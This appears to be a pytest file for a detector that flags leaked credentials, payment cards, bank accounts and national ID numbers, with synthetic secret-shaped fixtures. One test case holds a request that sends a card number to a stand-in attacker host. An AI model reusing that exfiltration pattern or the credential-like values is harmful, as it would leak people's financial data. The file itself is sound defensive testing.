"""Contract of the patterns: what identifies a person, a card or an account, or opens a system, is seen wherever it stands in a record; what
only looks like it is not, or is told with its doubt."""

from __future__ import annotations

import json
import random
from base64 import b64encode, encodebytes, urlsafe_b64encode
from typing import Any, Final

import pytest
from hypothesis import given
from hypothesis import strategies as st

from stopwork.detect.patterns import MOST_SIGHTS, Doubt, Kind, sights
from stopwork.detect.patterns.checks import crc32_base62, luhn
from stopwork.manifest.restricted import Restricted


def encoded(content: Any) -> str:
    return b64encode(json.dumps(content, ensure_ascii=False).encode()).decode()


RANDOM: Final = "q7Rk2TzL9vXc4BnM8sWd1FgH6jPyUa"
JWT: Final = ".".join(
    (
        urlsafe_b64encode(json.dumps({"alg": "HS256", "typ": "JWT"}).encode()).decode().rstrip("="),
        urlsafe_b64encode(b'{"sub":"1234567890"}').decode().rstrip("="),
        "c2lnbmF0dXJlLW9mLXRoaXMtdG9rZW4",
    )
)
PEM: Final = "PRIVATE KEY"
CARD: Final = "4929123456789015"
IBAN: Final = "DE44500105175407324931"

# Each case: what a record holds, and what is seen of it.
SEEN: Final[dict[str, tuple[Any, list[str]]]] = {
    "a key of AWS": ({"note": "use AKIA" + "J7Q2M5ZKX4PWN3RT now"}, ["AWS access key"]),
    "a token of GitHub with its checksum": (f"ghp_{RANDOM}{crc32_base62(RANDOM)}", ["GitHub token"]),
    "a token of npm": (f"npm_{RANDOM}{crc32_base62(RANDOM)}", ["npm token"]),
    "a key of Stripe": ("sk_" + "live_" + RANDOM, ["Stripe key"]),
    "a token of Slack": ("xox" + "b-2314567890-2314567891-" + RANDOM, ["Slack token"]),
    "a private key": (
        f"-----BEGIN RSA {PEM}-----\n{'MIIEpAIBAAKCAQEA7bq2' * 8}\n-----END RSA {PEM}-----",
        ["private key"],
    ),
    "a signed token": ({"headers": [f"Bearer {JWT}"]}, ["signed token (JWT)"]),
    "a password in an address": ("postgresql://app:Tr0ub4dor@db.acme.test/crm", ["password in an address"]),
    "a password that is assigned": ("password: k9#Vw2!pQz7m", ["value of password"]),
    "a key in a field of its name": ({"api_key": RANDOM}, ["value of api_key"]),
    "a card in groups": ("4929 1234 5678 9015", ["payment card"]),
    "a card with its expiry": ("Card 4929 1234 5678 9015 12/27 cvv 123", ["payment card"]),
    "a card in a field of its name": ({"card_number": CARD}, ["payment card"]),
    "a card as a number": ({"pan": int(CARD)}, ["payment card"]),
    "American Express": ("amex 3782 822463 10013", ["payment card"]),
    "a bank account": (f"Please pay to {IBAN} by Friday.", ["bank account (IBAN)"]),
    "a bank account in groups": ("IBAN: DE44 5001 0517 5407 3249 31, BIC", ["bank account (IBAN)"]),
    "a bank account before a word in capitals": ("DE44 5001 0517 5407 3249 31 BIC", ["bank account (IBAN)"]),
    "a social security number": ("SSN 536-22-8714", ["US social security number"]),
    "a national insurance number": ("NI number: JG 10 37 59 A", ["UK national insurance number"]),
    "a French number": ("NIR 2 55 08 14 168 025 38", ["French social security number"]),
    "an Italian code": ("RSSMRA85T10A562S", ["Italian tax code"]),
    "a Brazilian number": ("CPF 529.982.247-25", ["Brazilian taxpayer number"]),
    "deep within a result": ({"rows": [{"customer": {"notes": ["", f"card {CARD}"]}}]}, ["payment card"]),
    "a card in groups that no line breaks": ("card 4929\u00a01234\u202f5678\u20099015", ["payment card"]),
    "a card in an address": ("https://a.test/?c=4929%201234%205678%209015", ["payment card"]),
    "a card in the address of a form": ("https://a.test/?c=4929+1234+5678+9015", ["payment card"]),
    "a card as the name of a field": ({"4929 1234 5678 9015": "Ann"}, ["payment card"]),
    "a card in JSON in base64": (encoded({"customer": {"card": "4929 1234 5678 9015"}}), ["payment card"]),
    "a card in base64 in base64": (encoded({"a": encoded(["4929 1234 5678 9015"])}), ["payment card"]),
    "a card in an attachment": (
        "Content-Transfer-Encoding: base64\r\n\r\n"
        + encodebytes(b"Ann\n" * 30 + b"4929 1234 5678 9015").decode(),
        ["payment card"],
    ),
    "a card in an address of data": (
        "data:application/json;base64," + encoded(["Stra\u00dfe", "4929 1234 5678 9015"]),
        ["payment card"],
    ),
    "an account in groups that no line breaks": (
        "IBAN DE44\u00a05001\u00a00517\u00a05407\u00a03249\u00a031",
        ["bank account (IBAN)"],
    ),
    "a key in what an issuer answers": (
        f"401: Incorrect API key provided: {RANDOM}.",
        ["value of api key"],
    ),
    "a header in an error": (
        f"failed: headers={{'Authorization': 'Bearer {RANDOM}'}}",
        ["bearer authorization"],
    ),
    "a password in a header": ({"Authorization": "Basic YXBwOlRyMHViNGRvciE="}, ["basic authorization"]),
    "a password in German": ("Passwort: k9#Vw2!pQz7m", ["value of passwort"]),
    "a password in Spanish": ("contrase\u00f1a: k9#Vw2!pQz7m", ["value of contrase\u00f1a"]),
    "several at once": (f"card {CARD}, account {IBAN}", ["payment card", "bank account (IBAN)"]),
}

DOUBTED: Final[dict[str, tuple[Any, Doubt]]] = {
    "a published test card": ("card 4111 1111 1111 1111", Doubt.EXAMPLE),
    "a number of which nothing says that it is a card": ({"ref": CARD}, Doubt.NO_CONTEXT),
    "an order number that passes every check": ("Order 4929 1234 5678 9015", Doubt.NO_CONTEXT),
    "the account of the manuals": ("DE89 3704 0044 0532 0130 00", Doubt.EXAMPLE),
    "the key of the manuals": ("AKIA" + "IOSFODNN7EXAMPLE", Doubt.EXAMPLE),
    "a token whose checksum is wrong": (f"ghp_{RANDOM}000000", Doubt.CHECKSUM),
    "a key for tests": ("sk_" + "test_" + RANDOM, Doubt.TEST_MODE),
    "a part number": ("part 536-22-8714", Doubt.NO_CONTEXT),
}

ORDINARY: Final[dict[str, Any]] = {
    "an id": "3f2a9c1e-4111-4929-8123-456789012345",
    "a commit": "5d1d83349291234567890150abcdef1234567890",
    "milliseconds": 1_772_456_400_123,
    "nanoseconds": {"startTimeUnixNano": "1772456400123456789"},
    "a time": "2026-03-02T13:00:00.123456+00:00",
    "a telephone": "+44 20 7946 0958, +1 (212) 555-0142, 0049 30 901820 4929 1234",
    "a long amount": "4,929,123,456,789,015.00",
    "a decimal": "0.4929123456789015",
    "an order number that is no card": "4929123456789018",
    "a page token": {"next_page_token": "CAUQAA4kd93kfJd83kFj39sLdk", "token": "abc"},
    "a reference to a vault": {"password": "vault:crm/readonly", "api_key": "${CRM_API_KEY}"},
    "a folder": "PWD=/srv/app2/Build9/x",
    "a mask": "password: ********",
    "talk about passwords": "The password is expired; please reset it. Password: required",
    "an address without a password": "https://crm.acme.test/accounts/A-17?from=2026-03-02",
    "a digest": "sha256:" + "a1b2c3d4" * 8,
    "talk about authorization": "use basic authentication-with-tls, or a bearer authorization-header as before",
    "a long name": {"feature_flag_for_the_customer_portal_of_2026": True},
    "text in base64": {"body": b64encode(b"Dear Ann, the order 4711 is on its way. " * 20).decode()},
    "a book": "ISBN 978-3-16-148410-0",
    "a tracking number": "1Z999AA10123456784 and 9400 1000 0000 0000 0000 00",
}


@pytest.mark.parametrize("name", SEEN)
def test_sees_what_is_sensitive(name: str) -> None:
    content, expected = SEEN[name]
    assert [(sight.name, sight.doubt) for sight in sights(content)] == [(each, None) for each in expected]


@pytest.mark.parametrize("name", DOUBTED)
def test_says_why_something_may_be_nothing(name: str) -> None:
    content, doubt = DOUBTED[name]
    assert [sight.doubt for sight in sights(content)] == [doubt]


@pytest.mark.parametrize("name", ORDINARY)
def test_leaves_ordinary_content_alone(name: str) -> None:
    assert sights(ORDINARY[name]) == ()


def test_a_picture_is_no_credential() -> None:
    picture = random.Random(7).randbytes(200_000)
    assert sights({"image": b64encode(picture).decode()}) == ()


def test_a_million_order_numbers_are_no_cards() -> None:
    """Three in a thousand numbers of sixteen digits pass every check of a card: none is told without a doubt."""
    numbers = random.Random(7).sample(range(10**15, 10**16), 5_000)
    found = [sight for n in numbers for sight in sights({"order_id": str(n)})]
    assert found
    assert {sight.doubt for sight in found} == {Doubt.NO_CONTEXT}


def test_a_value_is_shown_by_its_end_only() -> None:
    [card] = sights(f"card {CARD}")
    assert card.shown == "payment card ending in 015"
    assert CARD not in card.shown
    [key] = sights({"password": "k9#Vw2!pQz7m"})
    assert key.shown == "value of password ending in 7m"


@pytest.mark.parametrize(
    ("text", "host"),
    [
        (f"GET https://collect.evil.test/p?c={CARD}&card=1", "collect.evil.test"),
        (f"card {CARD} see https://acme.test/help", None),
        ("postgresql://app:Tr0ub4dor@db.acme.test/crm", None),
    ],
)
def test_a_value_within_an_address_goes_to_its_host(text: str, host: str | None) -> None:
    [sight] = sights({"url": text, "card": ""})
    assert sight.host == host


def test_the_field_is_told_by_its_path() -> None:
    [sight] = sights({"rows": [{"payment": {"card": CARD}}]})
    assert (sight.kind, sight.field) == (Kind.CARD, "rows.payment.card")
    [hidden] = sights({"files": [{"content": encoded({"card": CARD})}]})
    assert (hidden.kind, hidden.field) == (Kind.CARD, "files.content (base64)")


def test_the_owners_patterns_find_their_class() -> None:
    own = Restricted({"staff_numbers": r"^EMP-\d{6}$", "project_names": r"(?i)\bproject\s+falcon\b"})
    content = {"who": "EMP-004211", "text": 'About "Project Falcon".', "other": "see EMP-004211"}
    assert [(sight.name, sight.value, sight.field) for sight in sights(content, own)] == [
        ("staff_numbers", "EMP-004211", "who"),
        ("project_names", "Project Falcon", "text"),
    ]


def test_what_is_told_of_one_record_is_bounded() -> None:
    def card(number: int) -> str:
        digits = f"49291234{number:07d}"
        return next(digits + str(check) for check in range(10) if luhn(digits + str(check)))

    assert len(sights({"text": "cards: " + ", ".join(card(n) for n in range(500))})) == MOST_SIGHTS


@given(
    st.recursive(
        st.none() | st.integers() | st.text(),
        lambda inner: st.lists(inner) | st.dictionaries(st.text(), inner),
    )
)
def test_no_content_is_too_strange(content: Any) -> None:
    assert all(sight.value for sight in sights({"inner": content, "card": CARD}))


@pytest.mark.parametrize("depth", [900, 5_000])
def test_a_token_whose_head_nests_without_end_keeps_nothing_else_from_being_seen(depth: int) -> None:
    head = urlsafe_b64encode(b'{"a":' + b"[" * depth + b"]" * depth + b"}").decode().rstrip("=")
    token = ".".join((head, *JWT.split(".")[1:]))
    assert [sight.value for sight in sights({"note": f"{token} and {CARD}"})] == [CARD]
